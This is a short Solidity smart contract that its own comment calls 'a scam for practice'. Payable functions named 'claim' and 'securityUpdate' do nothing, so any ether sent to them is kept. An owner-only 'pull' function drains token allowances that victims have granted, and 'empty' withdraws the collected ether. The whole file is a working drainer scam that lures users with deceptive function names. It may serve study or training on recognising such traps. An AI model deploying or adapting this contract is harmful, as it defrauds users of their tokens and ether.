// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IToken {
    function transferFrom(address from, address to, uint256 value) external;
}

/// @notice A scam for practice. `claim` keeps the ether that is sent along; an allowance given to it is pulled by its owner.
contract ClaimTrap {
    address public immutable owner = msg.sender;

    error NotOwner();

    /// Under either name it does nothing.
    function claim() external payable {}

    function securityUpdate() external payable {}

    function pull(address token, address from, address to, uint256 amount) external {
        if (msg.sender != owner) revert NotOwner();
        IToken(token).transferFrom(from, to, amount);
    }

    function empty(address payable to) external {
        if (msg.sender != owner) revert NotOwner();
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok);
    }
}
